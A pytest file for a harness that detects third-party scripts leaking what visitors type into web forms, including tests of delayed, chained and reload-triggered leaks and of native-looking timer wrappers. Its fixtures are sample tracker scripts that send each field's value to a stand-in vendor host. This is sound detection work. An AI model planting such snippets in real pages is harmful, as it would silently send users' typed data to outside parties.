"""The observation window (harness/run/window.py): a tracker that sends a typed value seconds after it was typed is
caught whichever step comes next, in real time (the page's clock is never replaced); one due after the window is
reported as pending at close; and the probe's timer wrappers forward every call untouched and look native."""

from __future__ import annotations

import io
import json
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Browser
from snippet_support import any_browser  # noqa: F401

from harness.capture.routing import Routing
from harness.capture.site import Site
from harness.cli import ExitStatus, main
from harness.config import Settings
from harness.pipeline import RunPlan, execute
from harness.replay.visual import VisualOptions
from harness.resources import page_probe_js
from harness.run.browsers import BrowserName
from harness.run.loader import load_scenarios
from harness.run.steps import DEFAULT_WINDOW_MS
from harness.verdict import RunVerdict

ROOT = Path(__file__).resolve().parent.parent
SCENARIOS = ROOT / "scenarios"
VENDOR = "leaky-vendor.test"

# A third-party snippet that sends each field's value DELAY ms after the visitor's last keystroke in it (a debounce).
DELAYED_LEAK = """(() => {
  const DELAY = __DELAY__;
  const pending = new WeakMap();
  document.addEventListener("input", (event) => {
    const field = event.target;
    if (!field || typeof field.value !== "string") return;
    clearTimeout(pending.get(field));
    pending.set(field, setTimeout(() => {
      navigator.sendBeacon("https://__VENDOR__/collect", field.value);
    }, DELAY));
  }, true);
})();
"""


def delayed_leak(delay_s: float) -> str:
    return DELAYED_LEAK.replace("__DELAY__", str(int(delay_s * 1000))).replace("__VENDOR__", VENDOR)


def _variant(folder: Path, bundled: str, last_step: str | None) -> Path:
    """A bundled scenario with its last step (``leave``) replaced by ``last_step``, or dropped when None."""
    lines = (SCENARIOS / bundled).read_text().rstrip("\n").split("\n")
    assert lines[-1].startswith("  - leave:"), bundled
    lines = lines[:-1] + ([f"  - {last_step}"] if last_step else [])
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / bundled
    target.write_text("\n".join(lines) + "\n")
    return target


def _cases(folder: Path) -> dict[str, Path]:
    """What comes after the last typed value, each case a bundled scenario (some with their last step changed)."""
    return {
        "navigating submit": SCENARIOS / "signup_complete.yaml",
        "Enter that submits": SCENARIOS / "search_submitted.yaml",
        "leave to a URL": SCENARIOS / "signup_abandoned.yaml",
        "leave: close": SCENARIOS / "search_unsubmitted.yaml",
        "goto": _variant(folder / "goto", "signup_abandoned.yaml", "goto: https://shop.test/index.html"),
        "end of the scenario": _variant(folder / "end", "search_unsubmitted.yaml", None),
    }


def _run(paths: list[Path], browser: BrowserName, delay_s: float, report: Path, jobs: int) -> list[RunVerdict]:
    found = load_scenarios(paths)
    assert not found.errors, found.errors
    plan = RunPlan(found.scenarios, [browser], Routing(Site(SCENARIOS / "site")), delayed_leak(delay_s), report, jobs,
                   VisualOptions(video=False, heatmaps=False))
    outcome = execute(plan)
    assert not outcome.environment_errors, outcome.environment_errors
    return outcome.verdicts


def _uncaught(verdicts: list[RunVerdict], cases: dict[str, Path], label: str) -> list[str]:
    """One line per case whose last typed value was not found leaving for the vendor."""
    by_file = {Path(v.result.scenario.file).resolve(): v for v in verdicts}
    problems = []
    for case, path in cases.items():
        verdict = by_file[path.resolve()]
        last = verdict.result.timeline.typed[-1]
        fingerprint = verdict.protected.fingerprints()[last.value]
        caught = [f for f in verdict.findings if VENDOR in f.url and f.fingerprint == fingerprint]
        if verdict.result.error or not caught:
            sent = [r.url for r in verdict.result.recording.requests if VENDOR in r.url]
            problems.append(f"{label} {case}: not caught (error {verdict.result.error!r}, {len(sent)} sent to the "
                            f"vendor, findings {[f.rule for f in verdict.findings]})")
    return problems


def test_a_value_sent_3_10_or_25_s_after_typing_is_caught_whichever_step_comes_next_in_chromium(
    tmp_path: Path,
) -> None:
    cases = _cases(tmp_path / "scenarios")
    problems: list[str] = []
    lock = threading.Lock()

    def one(delay_s: float) -> None:
        verdicts = _run(list(cases.values()), "chromium", delay_s, tmp_path / f"report-{delay_s:g}", jobs=3)
        with lock:
            problems.extend(_uncaught(verdicts, cases, f"{delay_s:g} s:"))

    threads = [threading.Thread(target=one, args=(delay,)) for delay in (3, 10, 25)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not problems, "\n".join(problems)


def test_a_value_sent_10_s_after_typing_is_caught_whichever_step_comes_next_in_firefox(tmp_path: Path) -> None:
    cases = _cases(tmp_path / "scenarios")
    verdicts = _run(list(cases.values()), "firefox", 10, tmp_path / "report", jobs=3)
    problems = _uncaught(verdicts, cases, "10 s:")
    assert not problems, "\n".join(problems)


def test_a_timer_due_after_the_window_is_not_waited_for_and_is_reported_pending_at_close(tmp_path: Path) -> None:
    snippet = tmp_path / "leak.js"
    snippet.write_text(delayed_leak(10))
    report = tmp_path / "report"
    out, err = io.StringIO(), io.StringIO()
    main(["run", str(SCENARIOS / "search_unsubmitted.yaml"), "--snippet", str(snippet), "--report", str(report),
          "--observation-window", "5"], out, err)
    run = json.loads((report / "results.json").read_text())["runs"][0]
    assert not run["error"], run["error"]
    observation = run["timeline"]["observation"]
    assert observation["window_ms"] == 5000
    assert observation["waited_ms"] < 4000, observation  # the 10 s timer was not waited for
    assert [page["before"] for page in observation["pages"]] == ["leave"]
    outside = [t for t in observation["pages"][0]["pending"] if t["outside_window"]]
    assert [(t["kind"], t["delay_ms"]) for t in outside] == [("timeout", 10000)], observation
    assert 4000 < outside[0]["due_in_ms"] <= 10000, outside
    assert not [f for f in run["findings"] if VENDOR in f["url"]]  # the page closed before it could send
    page = (report / "index.html").read_text()
    assert "Observation window" in page and "outside the window" in page


# A tracker whose flush schedules the next one (PostHog sends its last batch so): a debounce after the last
# keystroke, whose callback sets the timer that sends.
CHAINED_LEAK = """(() => {
  let debounce;
  document.addEventListener("input", (event) => {
    const field = event.target;
    if (!field || typeof field.value !== "string") return;
    clearTimeout(debounce);
    debounce = setTimeout(() => {
      setTimeout(() => navigator.sendBeacon("https://__VENDOR__/collect", field.value), 1500);
    }, 400);
  }, true);
})();
""".replace("__VENDOR__", VENDOR)


@pytest.mark.parametrize("engine", ["chromium", "firefox"])
def test_a_value_sent_by_a_timer_that_a_waited_timer_set_is_caught(tmp_path: Path, engine: BrowserName) -> None:
    cases = {"leave: close": SCENARIOS / "search_unsubmitted.yaml"}
    found = load_scenarios(list(cases.values()))
    plan = RunPlan(found.scenarios, [engine], Routing(Site(SCENARIOS / "site")), CHAINED_LEAK, tmp_path / "report", 1,
                   VisualOptions(video=False, heatmaps=False))
    outcome = execute(plan)
    assert not outcome.environment_errors, outcome.environment_errors
    problems = _uncaught(outcome.verdicts, cases, engine)
    assert not problems, "\n".join(problems)
    (end,) = outcome.verdicts[0].result.timeline.page_ends
    assert end.before == "leave" and end.waited_ms < 6000, end  # the two timers, not the 30 s window


# A tracker whose debounce reloads the page, and whose next document sets a long timer as it loads.
RELOADING = """(() => {
  if (sessionStorage.getItem("reloaded")) { setTimeout(() => {}, 4000); return; }
  let debounce;
  document.addEventListener("input", () => {
    clearTimeout(debounce);
    debounce = setTimeout(() => { sessionStorage.setItem("reloaded", "1"); location.reload(); }, 400);
  }, true);
})();
"""


def test_the_second_round_waits_for_no_timer_of_a_document_loaded_meanwhile(tmp_path: Path) -> None:
    found = load_scenarios([SCENARIOS / "search_unsubmitted.yaml"])
    plan = RunPlan(found.scenarios, ["chromium"], Routing(Site(SCENARIOS / "site")), RELOADING, tmp_path / "report", 1,
                   VisualOptions(video=False, heatmaps=False))
    outcome = execute(plan)
    assert not outcome.environment_errors, outcome.environment_errors
    (end,) = outcome.verdicts[0].result.timeline.page_ends
    assert end.waited_ms < 3000, end  # the debounce, not the fresh document's 4 s timer (nothing was typed there)


def test_the_runner_s_default_window_is_the_config_s() -> None:
    assert Settings().observation_window * 1000 == DEFAULT_WINDOW_MS


def test_a_window_that_is_no_number_of_seconds_is_a_one_line_usage_error(tmp_path: Path) -> None:
    out, err = io.StringIO(), io.StringIO()
    status = main(["run", str(SCENARIOS / "search_unsubmitted.yaml"), "--report", str(tmp_path / "r"),
                   "--observation-window=-1"], out, err)
    assert status == ExitStatus.INVALID_INPUT
    assert err.getvalue().strip().splitlines() == [
        "telltale: error: flag: 'observation_window' must be a number of seconds, 0 or more, got number -1.0"]


# -- the probe's wrappers: recorded, forwarded untouched, native-looking -------------------------------------------

# Stand-ins for the browser's timer functions, put in before the probe wraps them: they keep what they were called
# with and answer with a marked value, so the test sees exactly what the wrappers forwarded and returned.
_SPIES = """(() => {
  const calls = [];
  window.__spyCalls = calls;
  const spy = (name, answer) => function () { calls.push({name, self: this, args: Array.from(arguments)}); return answer; };
  window.setTimeout = spy("setTimeout", 4242);
  window.setInterval = spy("setInterval", 4343);
  window.clearTimeout = spy("clearTimeout", "cleared");
  window.clearInterval = spy("clearInterval", "cleared-i");
})();"""

_CALL_THROUGH = """() => {
  const f = () => 1, g = () => 2, extra = {x: 1}, self = {};
  const answers = [
    setTimeout(f, 7, "a", extra),
    setInterval.call(self, g, "12", 3),
    clearTimeout(4242),
    clearInterval(4343, "more"),
  ];
  const calls = window.__spyCalls;
  return {
    answers,
    names: calls.map((c) => c.name),
    sameArgs: calls[0].args.length === 4 && calls[0].args[0] === f && calls[0].args[1] === 7 && calls[0].args[2] === "a"
      && calls[0].args[3] === extra && calls[1].args[0] === g && calls[1].args[1] === "12" && calls[1].args[2] === 3
      && calls[2].args.length === 1 && calls[3].args.length === 2 && calls[3].args[1] === "more",
    sameThis: calls[1].self === self,
  };
}"""

_NATIVE = """async () => {
  const looks = /^function\\s+\\w+\\(\\)\\s+\\{\\s+\\[native code\\]\\s+\\}$/;  // Sentry's isNativeFunction
  const names = ["setTimeout", "setInterval", "clearTimeout", "clearInterval"];
  const native = names.every((n) => looks.test(window[n].toString()) && looks.test(String(window[n]))
    && window[n].toString().includes(n) && window[n].name === n && !("prototype" in window[n])
    && Object.keys(window[n]).length === 0);
  let fired = 0, args = null;
  const cleared = setTimeout(() => { fired += 1; }, 20);
  clearTimeout(cleared);
  const every = setInterval(() => { fired += 10; }, 20);
  clearInterval(every);
  const id1 = setTimeout((a, b) => { args = [a, b]; }, 0, "x", 2);
  const id2 = setTimeout(() => {}, 10000);
  await new Promise((resolve) => setTimeout(resolve, 120));
  const pending = window.__telltaleProbe.timers(0).timers;
  clearTimeout(id2);
  const after = window.__telltaleProbe.timers(0).timers;
  return {
    native, fired, args, ids: typeof id1 === "number" && id2 === id1 + 1,
    pending: pending.filter((t) => t.id === id2).map((t) => [t.kind, t.delay]),
    clearedGone: !after.some((t) => t.id === id2),
  };
}"""


@pytest.fixture
def probe_page(any_browser: Browser):  # noqa: F811
    """A page served as https://probe.test/ with ``init`` (if any) run before the page probe."""
    contexts = []

    def open_page(init: str | None = None):
        context = any_browser.new_context()
        contexts.append(context)
        context.route("https://probe.test/**", lambda route: route.fulfill(body="<p>probe</p>", content_type="text/html"))
        if init:
            context.add_init_script(init)
        context.add_init_script(page_probe_js())
        page = context.new_page()
        page.goto("https://probe.test/")
        return page

    yield open_page
    for context in contexts:
        context.close()


def test_the_probe_forwards_every_timer_call_untouched(probe_page) -> None:
    seen = probe_page(_SPIES).evaluate(_CALL_THROUGH)
    assert seen["answers"] == [4242, 4343, "cleared", "cleared-i"]
    assert seen["names"] == ["setTimeout", "setInterval", "clearTimeout", "clearInterval"]
    assert seen["sameArgs"] and seen["sameThis"]


def test_the_probe_s_timers_look_native_run_as_the_browser_s_and_are_recorded(probe_page) -> None:
    seen = probe_page().evaluate(_NATIVE)
    assert seen["native"], "a recorder checking isNativeFunction would take pristine timers and escape the probe"
    assert seen["fired"] == 0 and seen["args"] == ["x", 2] and seen["ids"]
    assert seen["pending"] == [["timeout", 10000]] and seen["clearedGone"]


# rrweb and Sentry take pristine timers from a blank frame they make and remove at once, then call them bound to the
# page's window (rrweb's getImplementation, Sentry's getNativeImplementation). The probe runs in that frame too.
_SANDBOX_TIMERS = """async () => {
  const frame = document.createElement("iframe");
  frame.hidden = true;
  document.head.appendChild(frame);
  const setTimer = frame.contentWindow.setTimeout.bind(window);
  const clearTimer = frame.contentWindow.clearTimeout.bind(window);
  frame.remove();
  let fired = 0;
  setTimer(() => { fired += 1; }, 20);
  const cleared = setTimer(() => { fired += 100; }, 40);
  clearTimer(cleared);
  const late = setTimer(() => {}, 10000);
  const pending = window.__telltaleProbe.timers(0).timers.filter((t) => t.id === late).map((t) => [t.kind, t.delay]);
  await new Promise((resolve) => setTimeout(resolve, 200));
  clearTimer(late);
  return {fired, pending};
}"""


def test_timers_taken_from_a_removed_sandbox_frame_still_run_and_are_recorded(probe_page) -> None:
    seen = probe_page().evaluate(_SANDBOX_TIMERS)
    assert seen["fired"] == 1, "a timer set through the removed frame's wrapper never ran (or a cleared one did)"
    assert seen["pending"] == [["timeout", 10000]], "the page's record misses timers set through the sandbox frame"
